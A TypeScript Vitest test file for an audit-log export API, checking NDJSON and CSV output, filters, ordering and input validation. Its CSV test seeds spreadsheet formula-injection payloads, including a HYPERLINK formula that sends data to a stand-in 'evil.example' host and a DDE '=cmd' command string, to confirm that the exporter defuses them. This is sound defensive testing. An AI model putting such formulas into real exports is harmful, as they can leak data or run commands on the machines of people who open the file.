import { afterAll, beforeAll, expect, it } from 'vitest';
import type { AuditEvent } from '../../src/http/schemas/audit.js';
import type { Tenant } from '../../src/http/schemas/tenant.js';
import { appendInTransactions } from '../support/audit-seed.js';
import { eachDriver } from '../support/drivers.js';
import { createTenant, randomSlug } from '../support/factories.js';
import { problemOf, type Answer, type Client } from '../support/http.js';
import { startServer, type TestServer } from '../support/server.js';
import { MINUTE_MS, START } from '../support/time.js';

interface Appended {
  id: string;
  hash: string;
}
interface Page {
  items: AuditEvent[];
  next_cursor: string | null;
}
type Query = Record<string, string | number | boolean>;
type Body = Record<string, unknown>;

const NOW = new Date(START);
const at = (minutes: number) => new Date(NOW.getTime() - minutes * MINUTE_MS).toISOString();

const queryString = (query: Query) =>
  new URLSearchParams(Object.fromEntries(Object.entries(query).map(([key, value]) => [key, String(value)]))).toString();

/** An RFC 4180 reader, strict enough to fail on a quoting mistake of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  while (i < text.length) {
    if (text[i] === '"' && cell === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('csv: unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`csv: text after a closing quote at ${i}`);
    } else if (text[i] === ',') {
      endCell();
      i++;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i += 2;
    } else if (text[i] === '"' || text[i] === '\n' || text[i] === '\r') {
      throw new Error(`csv: ${JSON.stringify(text[i])} outside quotes at ${i}`);
    } else {
      cell += text[i++];
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('csv: the last row does not end with CRLF');
  return rows;
}

eachDriver('audit export', (driver) => {
  let server: TestServer;
  let api: Client;
  let tenant: Tenant;
  beforeAll(async () => {
    server = await startServer(driver, { clock: () => NOW });
    api = server.api;
  });
  afterAll(() => server.close());

  const publish = (body: Body) => api.post<Appended>('/v1/audit', { body });
  /**
   * The export by plain fetch: the harness client parses any body whose type mentions json,
   * and NDJSON of several lines is no JSON document.
   */
  async function exportOf(query: Query): Promise<Answer> {
    const response = await fetch(new URL(`/v1/audit/export?${queryString(query)}`, server.url), {
      headers: { authorization: `Bearer ${server.api.token}` },
    });
    const text = await response.text();
    const problem = (response.headers.get('content-type') ?? '').startsWith('application/problem+json');
    return { status: response.status, headers: response.headers, body: problem ? (JSON.parse(text) as Body) : {}, text };
  }

  async function publishAll(bodies: Body[], batch = 50): Promise<Appended[]> {
    const appended: Appended[] = [];
    for (let i = 0; i < bodies.length; i += batch) {
      const answers = await Promise.all(bodies.slice(i, i + batch).map(publish));
      for (const answer of answers) {
        if (answer.status !== 201) throw new Error(`publish: ${answer.status} ${answer.text}`);
        appended.push(answer.body);
      }
    }
    return appended;
  }

  async function listAll(query: Query): Promise<AuditEvent[]> {
    const items: AuditEvent[] = [];
    let cursor: string | null = null;
    do {
      const answer: Answer<Page> = await api.get<Page>(
        `/v1/audit?${queryString(cursor === null ? { ...query, limit: 200 } : { ...query, limit: 200, cursor })}`,
      );
      if (answer.status !== 200) throw new Error(`list: ${answer.status} ${answer.text}`);
      items.push(...answer.body.items);
      cursor = answer.body.next_cursor;
    } while (cursor !== null);
    return items;
  }

  const ndjsonOf = (answer: Answer) => {
    expect(answer.text.endsWith('\n')).toBe(true);
    return answer.text
      .slice(0, -1)
      .split('\n')
      .map((line) => JSON.parse(line) as AuditEvent);
  };

  const descriptions = {
    plain: 'Exported the monthly report',
    comma: 'Exported Q3, Q4 and the summary',
    quotes: 'Renamed "Draft" to "Final"',
    newline: 'First line\nsecond line\r\nthird line',
    formula: '=HYPERLINK("http://evil.example/?leak=1","Click me")',
    plus: '+SUM(1,2)',
    minus: '-10+20',
    at: '@cmd',
    innerEquals: 'a=b is not a formula',
  };

  beforeAll(async () => {
    tenant = await createTenant(api);
    const bodies = Object.entries(descriptions).map(([key, description], i) => ({
      action: i % 2 === 0 ? 'report.exported' : 'report.renamed',
      crud: i % 3 === 0 ? 'r' : 'u',
      tenant_id: tenant.id,
      product: 'analytics',
      actor: { id: `user-${i}`, name: key === 'formula' ? '=cmd|" /C calc"!A0' : `User, ${i}` },
      target: { id: `report-${i}`, type: 'report', name: `Report "${i}"` },
      source_ip: i % 2 === 0 ? '198.51.100.7' : '2001:db8::1',
      created: at(i + 1),
      description,
      fields: { key, note: 'a "quoted", value' },
      external_id: `ext-${key}`,
    }));
    await publishAll(bodies);
  });

  it('streams NDJSON: one event per line, equal to the list, newest first', async () => {
    const answer = await exportOf({ tenant_id: tenant.id, format: 'ndjson' });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="audit-2026-11-27.ndjson"');
    const lines = ndjsonOf(answer);
    const listed = await listAll({ tenant_id: tenant.id });
    // The seeded events and the tenant.created event, which is newest (created at NOW).
    expect(listed).toHaveLength(Object.keys(descriptions).length + 1);
    expect(listed[0]?.action).toBe('tenant.created');
    expect(lines).toEqual(listed);
    for (const line of lines) for (const hidden of ['chain_key', 'chain_seq', 'prev_hash']) expect(line).not.toHaveProperty(hidden);
  });

  it('exports NDJSON when no format is named', async () => {
    const answer = await exportOf({ tenant_id: tenant.id });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^application\/x-ndjson/);
    expect(ndjsonOf(answer)).toEqual(await listAll({ tenant_id: tenant.id }));
  });

  it.each<[string, Query]>([
    ['an action prefix', { action: 'report.*' }],
    ['an exact action and crud', { action: 'report.renamed', crud: 'u' }],
    ['since and until', { since: at(6), until: at(2) }],
    ['actor_id', { actor_id: 'user-4' }],
  ])('honours the filters of the list: %s', async (_case, query) => {
    const filters = { tenant_id: tenant.id, ...query };
    const listed = await listAll(filters);
    expect(listed.length).toBeGreaterThan(0);
    expect(listed.length).toBeLessThan(Object.keys(descriptions).length + 1);
    expect(ndjsonOf(await exportOf({ ...filters, format: 'ndjson' }))).toEqual(listed);
    const rows = parseCsv((await exportOf({ ...filters, format: 'csv' })).text);
    expect(rows.slice(1).map((row) => row[0])).toEqual(listed.map((event) => event.id));
  });

  it('exports CSV: a header, one CRLF row per event, RFC 4180 quoting, formulas defused', async () => {
    const answer = await exportOf({ tenant_id: tenant.id, format: 'csv' });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="audit-2026-11-27.csv"');

    const [header, ...rows] = parseCsv(answer.text);
    expect(header?.slice(0, 3)).toEqual(['id', 'created', 'received']);
    for (const column of ['action', 'crud', 'actor_id', 'actor_name', 'target_name', 'source_ip', 'description', 'external_id', 'fields', 'hash']) {
      expect(header).toContain(column);
    }
    const column = (name: string) => header!.indexOf(name);
    const listed = await listAll({ tenant_id: tenant.id });
    expect(rows).toHaveLength(listed.length);
    for (const [i, event] of listed.entries()) {
      const row = rows[i]!;
      expect(row).toHaveLength(header!.length);
      expect(row[column('id')]).toBe(event.id);
      expect(row[column('created')]).toBe(event.created);
      expect(row[column('action')]).toBe(event.action);
      expect(row[column('source_ip')]).toBe(event.source_ip ?? '');
      expect(row[column('hash')]).toBe(event.hash);
      expect(row[column('external_id')]).toBe(event.external_id ?? '');
      if (event.fields) expect(JSON.parse(row[column('fields')]!)).toEqual(event.fields);
    }

    const byKey = new Map(rows.map((row) => [row[column('external_id')], row]));
    const described = (key: keyof typeof descriptions) => byKey.get(`ext-${key}`)![column('description')];
    expect(described('plain')).toBe(descriptions.plain);
    expect(described('comma')).toBe(descriptions.comma);
    expect(described('quotes')).toBe(descriptions.quotes);
    expect(described('newline')).toBe(descriptions.newline);
    expect(described('innerEquals')).toBe(descriptions.innerEquals);
    for (const key of ['formula', 'plus', 'minus', 'at'] as const) expect(described(key)).toBe(`'${descriptions[key]}`);
    expect(byKey.get('ext-formula')![column('actor_name')]).toBe(`'=cmd|" /C calc"!A0`);
    expect(byKey.get('ext-comma')![column('actor_name')]).toBe('User, 1');

    // The exact bytes of the quoting, not only what a lenient reader makes of them.
    expect(answer.text).toContain(',"Renamed ""Draft"" to ""Final""",');
    expect(answer.text).toContain(',"\'=HYPERLINK(""http://evil.example/?leak=1"",""Click me"")",');
    expect(answer.text).toContain(',"First line\nsecond line\r\nthird line",');
  });

  it('exports more events than one internal batch, each exactly once, newest first', async () => {
    const product = randomSlug('bulk');
    const tenants = await Promise.all(Array.from({ length: 5 }, () => createTenant(api)));
    // 2500 events over 5 chains; a few shared `created` values put batch edges among equal times.
    const bodies = Array.from({ length: 2500 }, (_, i) => ({
      action: 'bulk.item',
      crud: 'c' as const,
      tenant_id: tenants[i % 5]!.id,
      product,
      actor: { id: `u-${i}` },
      created: at(100 + (i % 7)),
    }));
    // Through the store, a hundred per transaction: 2,500 requests made this most of the file's time.
    const appended = await appendInTransactions(server.db, bodies.length, (i) => bodies[i]!, {
      perTransaction: 100,
      publisher: { sub: 'bulk-publisher', client: null },
      now: () => NOW,
    });
    const expected = new Set(appended.map((a) => a.id));
    expect(expected.size).toBe(2500);

    const lines = ndjsonOf(await exportOf({ product, format: 'ndjson' }));
    expect(lines).toHaveLength(2500);
    expect(new Set(lines.map((e) => e.id))).toEqual(expected);
    for (let i = 1; i < lines.length; i++) {
      const [newer, older] = [lines[i - 1]!, lines[i]!];
      expect(newer.created > older.created || (newer.created === older.created && newer.id > older.id)).toBe(true);
    }

    const rows = parseCsv((await exportOf({ product, format: 'csv' })).text);
    expect(rows).toHaveLength(2501);
    expect(rows.slice(1).map((row) => row[0])).toEqual(lines.map((e) => e.id));
  });

  it.each<[string, Query, string]>([
    ['format=xml', { format: 'xml' }, '/format'],
    ['an unknown parameter', { limit: 10 }, '/limit'],
    ['crud=z', { crud: 'z' }, '/crud'],
    ['since=yesterday', { since: 'yesterday' }, '/since'],
  ])('refuses %s: 400 validation_failed in the querystring', async (_case, query, path) => {
    const answer = await exportOf({ tenant_id: tenant.id, ...query });
    expect(answer.status).toBe(400);
    const problem = problemOf(answer);
    expect(problem.code).toBe('validation_failed');
    expect(problem.errors).toContainEqual(expect.objectContaining({ path, in: 'querystring' }));
  });
});
